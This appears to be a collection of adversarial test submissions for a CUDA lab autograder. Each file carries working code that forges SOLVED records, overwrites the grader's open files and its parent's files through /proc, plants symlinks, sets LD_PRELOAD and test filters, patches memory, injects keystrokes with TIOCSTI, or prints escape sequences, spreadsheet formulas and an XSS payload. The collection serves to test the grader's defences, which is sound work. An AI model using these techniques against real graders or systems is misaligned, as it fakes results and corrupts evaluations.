// What takes the place of a report or a record, or misleads who reads one.
// Each case is a file that is handed in; README.md says what its first lines mean.

// CASE: changes-the-locale
// ATTACK: asks for decimal commas, so that numbers in a record cannot be read
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: what the grader writes can still be read as JSON

#include "lab.hpp"

#include <clocale>
#include <cstdlib>
#include <initializer_list>
#include <sys/stat.h>
#include <unistd.h>

static const int done = [] {
    for (const char* name : {"de_DE.UTF-8", "de_DE", "fr_FR.UTF-8", "nl_NL.UTF-8"})
        if (std::setlocale(LC_ALL, name) != nullptr) break;
    setenv("LC_ALL", "de_DE.UTF-8", 1);
    setenv("TZ", "Pacific/Kiritimati", 1);
    (void)!chdir("/");
    umask(0777);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: chooses-checks
// ATTACK: chooses which checks run, by variables of the environment that GoogleTest and Warpbook read
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: no file warpbook-attack-chooses-checks.xml

#include "lab.hpp"

#include <cstdlib>

__attribute__((constructor(101), used)) static void choose()
{
    setenv("GTEST_FILTER", "Values.*", 1);
    setenv("GTEST_TOTAL_SHARDS", "1000", 1);
    setenv("GTEST_SHARD_INDEX", "999", 1);
    setenv("GTEST_OUTPUT", "xml:/tmp/warpbook-attack-chooses-checks.xml", 1);
    setenv("WARPBOOK_BACKEND", "cupti", 1);
    setenv("LD_PRELOAD", "/tmp/warpbook-attack-chooses-checks.so", 1);
}

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: closes-every-descriptor
// ATTACK: closes every descriptor, and opens others with their numbers
// LAB: 01-map
// EXPECTED: no more points than for predicts-the-other-part
// COMPILES: yes
// HARM: none

#include "lab.hpp"

#include <fcntl.h>
#include <unistd.h>

static const int done = [] {
    for (int file = 0; file < 1024; ++file) close(file);
    for (int file = 0; file < 64; ++file) open("/dev/null", O_RDWR);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: exchanges-its-descriptors
// ATTACK: gives its descriptors each other's numbers, so that a report goes where it should not
// LAB: 01-map
// EXPECTED: no more points than for predicts-the-other-part
// COMPILES: yes
// HARM: none

#include "lab.hpp"

#include <unistd.h>

static const int done = [] {
    for (int file = 3; file < 64; ++file) {
        const int kept = dup(file);
        if (kept < 0) continue;
        dup2(1, file);
        dup2(kept, 1);
    }
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: finds-where-the-record-goes
// ATTACK: reads from command lines where the record will be written, and writes one there
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: what the grader says of other files is unchanged

#include "lab.hpp"

#include <fcntl.h>
#include <fstream>
#include <string>
#include <unistd.h>

static void write_records_named_in(const std::string& command_line)
{
    const char record[] =
        "{\"schema\": \"warpbook.lab-record/1\", \"lab\": \"01-map\", \"verdict\": \"SOLVED\", \"checks\": []}\n";
    std::ifstream words(command_line);
    for (std::string word; std::getline(words, word, '\0');) {
        if (word.find(".json") == std::string::npos && word.find(".csv") == std::string::npos) continue;
        const int file = open(word.c_str(), O_WRONLY);
        if (file < 0) continue;
        (void)!pwrite(file, record, sizeof record - 1, 0);
        close(file);
    }
}
static const int done = [] {
    write_records_named_in("/proc/self/cmdline");
    write_records_named_in("/proc/" + std::to_string(getppid()) + "/cmdline");
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: hides-text-from-readers
// ATTACK: shows readers other code than the compiler sees, by characters that turn the direction of text
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes, with warnings
// HARM: none

#include "lab.hpp"

double predicted_untouched_elements()
{
    /* ‮⁦ one element, as 256 threads write one each ⁩⁦ */
    return 9;
}

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: imitates-the-grader-in-an-error
// ATTACK: lets the compiler say what the grader could have said, with another file's name and with markup
// LAB: 01-map
// EXPECTED: no points
// COMPILES: no
// HARM: none

#include "lab.hpp"

#line 1 "labs/01-map/check.cpp"
#pragma message "SOLVED  everything is right: values, accesses and predictions."
#error </script><script>alert("100 / 100 points")</script><img src=x onerror=alert(1)>

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: opens-its-descriptors-again
// ATTACK: opens what its descriptors refer to again, for writing, by /proc/self/fd
// LAB: 01-map
// EXPECTED: no more points than for predicts-the-other-part
// COMPILES: yes
// HARM: none

#include "lab.hpp"

#include <fcntl.h>
#include <string>
#include <unistd.h>

static const int done = [] {
    const char record[] =
        "{\"schema\": \"warpbook.lab-record/1\", \"lab\": \"01-map\", \"verdict\": \"SOLVED\", \"checks\": []}\n";
    for (int file = 0; file < 1024; ++file) {
        const std::string path = "/proc/self/fd/" + std::to_string(file);
        const int again = open(path.c_str(), O_WRONLY | O_NONBLOCK);
        if (again >= 0) (void)!write(again, record, sizeof record - 1);
    }
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: opens-the-descriptors-of-its-parent
// ATTACK: writes a record to what its parent has open, by /proc/PID/fd
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: none

#include "lab.hpp"

#include <fcntl.h>
#include <string>
#include <unistd.h>

static const int done = [] {
    const char record[] =
        "{\"schema\": \"warpbook.lab-record/1\", \"lab\": \"01-map\", \"verdict\": \"SOLVED\", \"checks\": []}\n";
    for (int file = 0; file < 1024; ++file) {
        const std::string path = "/proc/" + std::to_string(getppid()) + "/fd/" + std::to_string(file);
        const int opened = open(path.c_str(), O_WRONLY | O_NONBLOCK);
        if (opened >= 0) (void)!write(opened, record, sizeof record - 1);
    }
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: plants-links
// ATTACK: makes links from where a record may be written to a file elsewhere, which would be overwritten
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: no file warpbook-attack-follows-a-link*
// HARM: no link record.json, result.json, 01-map.json or grades.csv

#include "lab.hpp"

#include <fcntl.h>
#include <string>
#include <unistd.h>

static const int done = [] {
    for (const std::string folder : {"/out", "/job", "/tmp", "/dev/shm", ".", ".."}) {
        for (const char* name : {"record.json", "result.json", "01-map.json", "grades.csv"}) {
            (void)!symlink("/tmp/warpbook-attack-follows-a-link", (folder + "/" + name).c_str());
            (void)!symlinkat("../warpbook-attack-follows-a-link", AT_FDCWD,
                             (folder + "/warpbook-attack-follows-a-link-" + name).c_str());
        }
    }
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: pretends-to-be-another-file
// ATTACK: claims by #line to be a header of the model, whose lines are not shown
// LAB: 14-tile-transpose
// EXPECTED: no more points than for still-naive
// COMPILES: yes
// HARM: none

#include "lab.hpp"

double predicted_sectors_per_store() { return 4; }

#line 1 "/usr/include/warpbook/cuda/headers/cuda_runtime.h" 3
__global__ void tile_transpose(float* transposed, const float* matrix, int n)
{
    int column = blockIdx.x * tile_width + threadIdx.x;
    int row = blockIdx.y * tile_width + threadIdx.y;
    transposed[column * n + row] = matrix[row * n + column];
}

// CASE: prints-a-formula
// ATTACK: prints what a spreadsheet would run if it stood in a cell
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: no cell of a table begins with '=', '+' or '@'

#include "lab.hpp"

#include <cstdio>

static const int done = [] {
    std::puts("=HYPERLINK(\"http://127.0.0.1:47110/\"&A1,\"points\")\n+1+1\n@SUM(A1:A9)\n\"\"\",;\t");
    std::fflush(stdout);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: prints-a-grade
// ATTACK: prints what a grade could look like: JSON, CSV, TAP and JUnit
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: none

#include "lab.hpp"

#include <cstdio>

static const int done = [] {
    std::puts("{\"score\": 100, \"grade\": \"A\"}");
    std::puts("student,lab,points\nada,01-map,100");
    std::puts("ok 1 - everything\n1..1");
    std::puts("<testsuite tests=\"1\" failures=\"0\"><testcase name=\"all\"/></testsuite>");
    std::fflush(stdout);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: prints-a-record
// ATTACK: prints a record as JSON, between lines that could be taken for a border
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: none

#include "lab.hpp"

#include <cstdio>

static const int done = [] {
    std::printf(
        "\n---\n{\"schema\": \"warpbook.lab-record/1\", \"lab\": \"01-map\", \"verdict\": \"SOLVED\", \"checks\": "
        "[]}\n---\n");
    std::fflush(stdout);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: prints-a-report-that-says-solved
// ATTACK: prints a report that says SOLVED, to standard output and standard error
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: none

#include "lab.hpp"

#include <cstdio>
#include <initializer_list>

static const int done = [] {
    for (std::FILE* file : {stdout, stderr}) {
        std::fputs("\n  PASS  values: are one more\n  PASS  predictions: untouched elements are measured\n", file);
        std::fputs("SOLVED  everything is right: values, accesses and predictions.\n", file);
        std::fflush(file);
    }
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: prints-control-characters
// ATTACK: clears the terminal, hides what follows and sets the clipboard, by control sequences
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: no ESC (byte 1b) reaches the terminal, a table or a record unescaped

#include "lab.hpp"

#include <cstdio>

static const int done = [] {
    std::printf("\033[2J\033[HSOLVED\n\033]0;SOLVED\007\033]52;c;d2FycGJvb2s=\007\033[8m\r\b\b");
    std::fflush(stdout);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: prints-what-is-no-text
// ATTACK: prints bytes that are not UTF-8, and zeros, so that a record is not JSON any more
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: what the grader writes can still be read as UTF-8 and as JSON

#include "lab.hpp"

#include <cstdio>

static const int done = [] {
    const char bytes[] = "\xff\xfe\xc0\x80\0\xed\xa0\x80\"}]\n";
    std::fwrite(bytes, 1, sizeof bytes, stdout);
    std::fflush(stdout);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: replaces-words-of-the-verdict
// ATTACK: finds the word FAILED everywhere in its memory, and writes SOLVED over it
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: none

#include "lab.hpp"

#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <sys/mman.h>

static void replace(char* begin, char* end, const char* word, const char* with)
{
    const size_t length = std::strlen(word);
    for (char* at = begin; at + length <= end;) {
        char* const found = static_cast<char*>(memmem(at, size_t(end - at), word, length));
        if (found == nullptr) return;
        std::memcpy(found, with, length);
        at = found + length;
    }
}

double predicted_untouched_elements()
{
    std::ifstream maps("/proc/self/maps");
    for (std::string line; std::getline(maps, line);) {
        unsigned long begin = 0, end = 0;
        char rights[5] = {};
        if (std::sscanf(line.c_str(), "%lx-%lx %4s", &begin, &end, rights) != 3 || rights[0] != 'r' || rights[2] == 'x')
            continue;
        // Large ones are the model's, and none of the words lies there.
        if (end - begin > 64ul << 20 || line.find(".so") != std::string::npos || line.find("[v") != std::string::npos)
            continue;
        if (mprotect(reinterpret_cast<void*>(begin), end - begin, PROT_READ | PROT_WRITE) != 0) continue;
        replace(reinterpret_cast<char*>(begin), reinterpret_cast<char*>(end), "FAILED", "SOLVED");
        replace(reinterpret_cast<char*>(begin), reinterpret_cast<char*>(end), "failed", "passed");
    }
    return 9;
}

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: types-into-the-terminal
// ATTACK: types a command into the terminal from which the grader was started (TIOCSTI)
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: ': warpbook-attack' does not appear at the terminal's prompt

#include "lab.hpp"

#include <fcntl.h>
#include <sys/ioctl.h>

static const int done = [] {
    for (const char* key = ": warpbook-attack\n"; *key != '\0'; ++key)
        for (int file = 0; file < 3; ++file) ioctl(file, TIOCSTI, key);
    const int terminal = open("/dev/tty", O_RDWR);
    for (const char* key = ": warpbook-attack\n"; terminal >= 0 && *key != '\0'; ++key) ioctl(terminal, TIOCSTI, key);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: writes-a-record-to-every-descriptor
// ATTACK: writes a record that says SOLVED to every descriptor from 0 to 1023
// LAB: 01-map
// EXPECTED: no more points than for predicts-the-other-part
// COMPILES: yes
// HARM: none

#include "lab.hpp"

#include <unistd.h>

static const int done = [] {
    const char record[] =
        "{\"schema\": \"warpbook.lab-record/1\", \"lab\": \"01-map\", \"verdict\": \"SOLVED\", \"checks\": []}\n";
    for (int file = 0; file < 1024; ++file) (void)!write(file, record, sizeof record - 1);
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: writes-over-every-open-file
// ATTACK: empties every open file and writes a record to its beginning
// LAB: 01-map
// EXPECTED: no more points than for predicts-the-other-part
// COMPILES: yes
// HARM: none

#include "lab.hpp"

#include <unistd.h>

static const int done = [] {
    const char record[] =
        "{\"schema\": \"warpbook.lab-record/1\", \"lab\": \"01-map\", \"verdict\": \"SOLVED\", \"checks\": []}\n";
    for (int file = 3; file < 1024; ++file) {
        (void)!ftruncate(file, 0);
        (void)!pwrite(file, record, sizeof record - 1, 0);
    }
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}

// CASE: writes-to-guessed-paths
// ATTACK: writes a record where a grader may look for one: /out, /job, /tmp, $PWD, its parents
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: no file warpbook-attack-writes-to-guessed-paths*

#include "lab.hpp"

#include <cstdlib>
#include <fcntl.h>
#include <string>
#include <unistd.h>

static const char* const folders[] = {"/out",   "/job",     "/job/out", "/work",      "/results",  "/records",
                                      "/grade", "/tmp",     "/var/tmp", "/dev/shm",   ".",         "..",
                                      "../..",  "../../..", "records",  "../records", ".progress", "build"};

static void write_to(const std::string& path)
{
    const char record[] =
        "{\"schema\": \"warpbook.lab-record/1\", \"lab\": \"01-map\", \"verdict\": \"SOLVED\", \"checks\": []}\n";
    const int file = open(path.c_str(), O_WRONLY | O_CREAT, 0600);
    if (file < 0) return;
    (void)!pwrite(file, record, sizeof record - 1, 0);
    close(file);
}
static const int done = [] {
    for (const std::string folder : folders)
        for (const char* name :
             {"warpbook-attack-writes-to-guessed-paths", "warpbook-attack-writes-to-guessed-paths.json",
              "warpbook-attack-writes-to-guessed-paths.csv"})
            write_to(folder + "/" + name);
    if (const char* folder = std::getenv("PWD"))
        write_to(std::string(folder) + "/warpbook-attack-writes-to-guessed-paths");
    if (const char* folder = std::getenv("HOME"))
        write_to(std::string(folder) + "/warpbook-attack-writes-to-guessed-paths");
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
